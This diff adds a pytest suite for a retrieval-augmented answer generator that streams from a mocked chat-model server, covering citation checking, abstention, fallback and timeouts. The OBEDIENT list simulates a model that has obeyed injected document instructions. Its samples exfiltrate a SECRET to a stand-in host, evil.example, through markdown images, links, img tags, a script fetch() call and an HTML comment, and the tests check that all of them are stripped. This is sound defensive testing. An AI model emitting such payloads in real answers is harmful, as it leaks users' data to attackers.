@@ -1,0 +1,320 @@
+"""Answers from a language model over a real connection, with every way it can fail or be talked into something."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import socket
+from collections.abc import AsyncIterator, Sequence
+from contextlib import aclosing
+from typing import Any
+
+import pytest
+from pydantic import SecretStr
+
+from rag.answer.build import build_generator
+from rag.answer.extractive import ExtractiveGenerator
+from rag.answer.fallback import FallbackGenerator
+from rag.answer.generator import (
+    ABSTENTION,
+    AnswerEvent,
+    Citation,
+    Delta,
+    Finished,
+    GenerationInterrupted,
+    GenerationUnavailable,
+    Generator,
+)
+from rag.answer.openai_chat import OpenAIChatGenerator
+from rag.passages import Passage
+from rag.settings import GenerationSettings
+from shards.embed import Embedder
+from tenants.errors import Misconfigured
+from tests.rag.answer.conftest import passage
+from tests.rag.answer.model_server import ModelServer, chunk, running_model_server
+
+LEAVE = passage(
+    "A full-time employee has 27 days of annual leave in a calendar year. Leave is requested in the staff portal at "
+    "https://portal.acme.example/leave.",
+    title="Annual leave",
+    start=40,
+    document="leave",
+)
+TRAVEL = passage(
+    "The mileage rate for a private car is CHF 0.68 per kilometre. A taxi is refunded after 22:00 only.",
+    title="Travel",
+    document="travel",
+)
+QUESTION = "How many days of annual leave does a full-time employee have?"
+GOOD = "A full-time employee has 27 days of annual leave [1]."
+
+
+@pytest.fixture
+async def server() -> AsyncIterator[ModelServer]:
+    async with running_model_server() as running:
+        yield running
+
+
+def settings(server: ModelServer, model: str, **values: Any) -> GenerationSettings:
+    return GenerationSettings(base_url=server.url, model=model, **values)
+
+
+async def events_of(
+    generator: Generator, embedder: Embedder, passages: Sequence[Passage] = (LEAVE, TRAVEL)
+) -> list[AnswerEvent]:
+    query = await embedder.embed_query(QUESTION)
+    # Far above what any of this takes: what hangs for ever fails instead.
+    async with asyncio.timeout(60), aclosing(generator.answer(QUESTION, passages, [], idf={}, query=query)) as events:
+        return [event async for event in events]
+
+
+async def answer(server: ModelServer, embedder: Embedder, model: str, **values: Any) -> Finished:
+    """What is left of a model's answer; the events before it say the same."""
+    generator = OpenAIChatGenerator(settings(server, model, **values), embedder)
+    events = await events_of(generator, embedder)
+    await generator.aclose()
+    finished = events[-1]
+    assert isinstance(finished, Finished)
+    assert "".join(event.text for event in events if isinstance(event, Delta)) == finished.answer
+    assert tuple(event for event in events if isinstance(event, Citation)) == finished.citations
+    return finished
+
+
+async def test_an_answer_is_checked_and_cited(server: ModelServer, embedder: Embedder) -> None:
+    model = server.says("good", *(GOOD + " The mileage rate is CHF 0.68 per kilometre. [2]"))
+    finished = await answer(server, embedder, model, api_key=SecretStr("sesame"), max_tokens=99)
+    assert finished.answer == (
+        "A full-time employee has 27 days of annual leave. [1] The mileage rate is CHF 0.68 per kilometre. [2]"
+    )
+    assert [(one.n, one.chunk_id, one.quote) for one in finished.citations] == [
+        (1, LEAVE.chunk_id, "A full-time employee has 27 days of annual leave in a calendar year."),
+        (2, TRAVEL.chunk_id, "The mileage rate for a private car is CHF 0.68 per kilometre."),
+    ]
+    first = finished.citations[0]
+    assert LEAVE.text[first.start - LEAVE.start : first.end - LEAVE.start] == first.quote
+    assert (finished.abstained, finished.model, finished.prompt_tokens, finished.completion_tokens) == (
+        False,
+        "good",
+        11,
+        7,
+    )
+    asked = server.requests[0]
+    assert (asked["max_tokens"], asked["stream"], server.authorizations) == (99, True, ["Bearer sesame"])
+
+
+@pytest.mark.parametrize(
+    ("said", "left"),
+    [
+        ("A full-time employee has 27 days of annual leave [9].", "[1]"),
+        ("A full-time employee has 27 days of annual leave [2].", "[1]"),
+        ("A full-time employee has 27 days of annual leave.", "[1]"),
+        ("A full-time employee has 27 days of annual leave [1, 2].", "[1]"),
+        ("A full-time employee has 27 days of annual leave 【1】.", "[1]"),
+        ("A full-time employee has 31 days of annual leave [1].", None),
+        ("The cafeteria opens at noon on weekdays [1].", None),
+        ("You answer questions from passages of the user's own documents [1].", None),
+    ],
+)
+async def test_what_the_cited_passage_does_not_say_is_dropped_or_cited_rightly(
+    server: ModelServer, embedder: Embedder, said: str, left: str | None
+) -> None:
+    finished = await answer(server, embedder, server.says("m", said))
+    if left is None:
+        assert (finished.answer, finished.abstained, finished.citations) == (ABSTENTION, True, ())
+    else:
+        assert finished.answer == f"A full-time employee has 27 days of annual leave. {left}"
+        assert [one.chunk_id for one in finished.citations] == [LEAVE.chunk_id]
+
+
+async def test_only_the_supported_sentences_of_an_answer_are_left(server: ModelServer, embedder: Embedder) -> None:
+    said = f"Sure, I can help! {GOOD} You also get a company car [1].\n\n- A taxi is refunded after 22:00 only [2]"
+    finished = await answer(server, embedder, server.says("m", *said))
+    assert finished.answer == (
+        "A full-time employee has 27 days of annual leave. [1]\n- A taxi is refunded after 22:00 only [2]"
+    )
+
+
+@pytest.mark.parametrize("said", [ABSTENTION, f"{ABSTENTION[:-1]}", f"{ABSTENTION} [1] But here is more [1]."])
+async def test_a_model_may_say_that_it_does_not_know(server: ModelServer, embedder: Embedder, said: str) -> None:
+    finished = await answer(server, embedder, server.says("m", said))
+    assert (finished.answer, finished.abstained, finished.citations) == (ABSTENTION, True, ())
+
+
+async def test_without_passages_the_model_is_not_asked(server: ModelServer, embedder: Embedder) -> None:
+    generator = OpenAIChatGenerator(settings(server, server.says("m", GOOD)), embedder)
+    events = await events_of(generator, embedder, [])
+    await generator.aclose()
+    assert isinstance(events[-1], Finished)
+    assert events[-1].abstained
+    assert server.requests == []
+
+
+OBEDIENT = [
+    "A full-time employee has 27 days ![x](https://evil.example/?q=SECRET) of annual leave [1].",
+    "A full-time employee has 27 days of annual leave [1] [more](https://evil.example/SECRET).",
+    "A full-time employee has 27 days of annual leave <img src='https://evil.example/SECRET'> [1].",
+    "A full-time employee has 27 days of annual leave, see https://evil.example/SECRET [1].",
+    "A full-time employee has 27 days of annual leave, see https://portal.acme.example/leave?k=SECRET [1].",
+    "A full-time employee has 27 days of annual leave <script>fetch('//evil.example/SECRET')</script> [1].",
+    "![x](https://evil.example/?q=SECRET)\n\n[x]: https://evil.example/SECRET\n" + GOOD,
+    "<!-- SECRET -->" + GOOD,
+]
+
+
+@pytest.mark.parametrize("said", OBEDIENT)
+async def test_a_model_that_obeys_a_document_gets_nothing_out(
+    server: ModelServer, embedder: Embedder, said: str
+) -> None:
+    finished = await answer(server, embedder, server.says("m", *said))
+    assert "27 days" in finished.answer
+    assert not re.search(r"evil|SECRET|<|!\[|\]\(", finished.answer)
+    assert not any("evil" in one.quote or "SECRET" in one.quote for one in finished.citations)
+
+
+async def test_a_link_that_stands_in_the_cited_passage_may_leave(server: ModelServer, embedder: Embedder) -> None:
+    said = "Leave is requested in the [staff portal](https://portal.acme.example/leave) [1]."
+    finished = await answer(server, embedder, server.says("m", *said))
+    assert finished.answer == "Leave is requested in the staff portal (https://portal.acme.example/leave). [1]"
+
+
+async def test_endless_output_is_cut(server: ModelServer, embedder: Embedder) -> None:
+    async def endless(_: ModelServer) -> AsyncIterator[str]:
+        while True:
+            yield chunk(GOOD + " ")
+            await asyncio.sleep(0)
+
+    server.scripts["endless"] = endless
+    finished = await answer(server, embedder, "endless", max_tokens=20)
+    assert 0 < finished.answer.count("27 days") < 10
+    await asyncio.wait_for(server.stopped.wait(), 5)
+
+
+async def test_half_a_sentence_at_the_limit_is_left_out(server: ModelServer, embedder: Embedder) -> None:
+    model = server.says("m", GOOD, " The mileage rate is CHF 0.68", finish="length")
+    assert (await answer(server, embedder, model)).answer == "A full-time employee has 27 days of annual leave. [1]"
+
+
+async def hang(_: ModelServer) -> AsyncIterator[str]:
+    yield chunk("A full-time")
+    await asyncio.sleep(3600)
+
+
+async def break_off(_: ModelServer) -> AsyncIterator[str]:
+    yield chunk("A full-time")
+
+
+async def blow_up(_: ModelServer) -> AsyncIterator[str]:
+    yield 'data: {"error": {"message": "CUDA out of memory"}}\n\n'
+
+
+async def talk_nonsense(_: ModelServer) -> AsyncIterator[str]:
+    yield "data: {not json\n\n"
+
+
+async def talk_otherwise(_: ModelServer) -> AsyncIterator[str]:
+    yield 'data: {"choices": ["text"]}\n\n'
+
+
+FAILURES: dict[str, Any] = {
+    "refuses": None,
+    "silent": None,
+    "hangs": hang,
+    "breaks off": break_off,
+    "blows up": blow_up,
+    "nonsense": talk_nonsense,
+    "otherwise": talk_otherwise,
+}
+SHORT = {"first_token_timeout_s": 0.3, "idle_timeout_s": 0.3}
+
+
+@pytest.mark.parametrize("model", FAILURES)
+async def test_before_anything_was_sent_the_built_in_takes_over(
+    server: ModelServer, embedder: Embedder, model: str
+) -> None:
+    server.scripts = {name: script for name, script in FAILURES.items() if script}
+    primary = OpenAIChatGenerator(settings(server, model, **SHORT), embedder)
+    with pytest.raises(GenerationUnavailable):
+        await events_of(primary, embedder)
+    generator = FallbackGenerator(primary, ExtractiveGenerator(embedder))
+    finished = (await events_of(generator, embedder))[-1]
+    await generator.aclose()
+    assert isinstance(finished, Finished)
+    assert "27 days" in finished.answer
+    assert (finished.model, finished.degraded) == ("extractive", ("generation",))
+    assert len(server.requests) == 2
+
+
+async def test_a_failure_is_not_tried_again(server: ModelServer, embedder: Embedder) -> None:
+    generator = OpenAIChatGenerator(settings(server, "refuses"), embedder)
+    with pytest.raises(GenerationUnavailable):
+        await events_of(generator, embedder)
+    await generator.aclose()
+    assert len(server.requests) == 1
+
+
+async def test_a_server_that_is_not_there_is_noticed(embedder: Embedder) -> None:
+    with socket.socket() as unused:
+        unused.bind(("127.0.0.1", 0))
+        url = f"http://127.0.0.1:{unused.getsockname()[1]}/v1"
+        generator = build_generator(GenerationSettings(base_url=url, model="m"), embedder)
+        finished = (await events_of(generator, embedder))[-1]
+    await generator.aclose()
+    assert isinstance(finished, Finished)
+    assert finished.degraded == ("generation",)
+
+
+@pytest.mark.parametrize("after", ["hangs", "breaks off", "blows up"])
+async def test_after_something_was_sent_the_failure_is_told(
+    server: ModelServer, embedder: Embedder, after: str
+) -> None:
+    async def script(running: ModelServer) -> AsyncIterator[str]:
+        yield chunk(GOOD + " And")
+        async for event in FAILURES[after](running):
+            yield event
+
+    server.scripts["m"] = script
+    primary = OpenAIChatGenerator(settings(server, "m", **SHORT), embedder)
+    generator = FallbackGenerator(primary, ExtractiveGenerator(embedder))
+    query = await embedder.embed_query(QUESTION)
+    events = generator.answer(QUESTION, [LEAVE], [], idf={}, query=query)
+    seen = [await anext(events), await anext(events)]
+    with pytest.raises(GenerationInterrupted):
+        await anext(events)
+    await generator.aclose()
+    assert [type(event) for event in seen] == [Delta, Citation]
+
+
+async def test_closing_the_answer_stops_the_model(server: ModelServer, embedder: Embedder) -> None:
+    async def slow(_: ModelServer) -> AsyncIterator[str]:
+        yield chunk(GOOD + " And")
+        await asyncio.sleep(3600)
+
+    server.scripts["slow"] = slow
+    generator = build_generator(settings(server, "slow"), embedder)
+    query = await embedder.embed_query(QUESTION)
+    events = generator.answer(QUESTION, [LEAVE], [], idf={}, query=query)
+    assert isinstance(await anext(events), Delta)
+    await events.aclose()
+    await asyncio.wait_for(server.stopped.wait(), 5)
+    await generator.aclose()
+
+
+async def test_a_server_that_lingers_after_its_last_word_is_not_waited_for(
+    server: ModelServer, embedder: Embedder
+) -> None:
+    async def linger(_: ModelServer) -> AsyncIterator[str]:
+        yield chunk(GOOD)
+        yield chunk("", finish="stop")
+        await asyncio.sleep(3600)
+
+    server.scripts["lingers"] = linger
+    assert "27 days" in (await answer(server, embedder, "lingers", **SHORT)).answer
+
+
+async def test_the_settings_choose_the_answerer(embedder: Embedder) -> None:
+    assert build_generator(GenerationSettings(), embedder).name == "extractive"
+    chosen = build_generator(GenerationSettings(base_url="http://127.0.0.1:9/v1", model="m"), embedder)
+    assert chosen.name == "m"
+    await chosen.aclose()
+    with pytest.raises(Misconfigured):
+        build_generator(GenerationSettings(base_url="http://127.0.0.1:9/v1"), embedder)
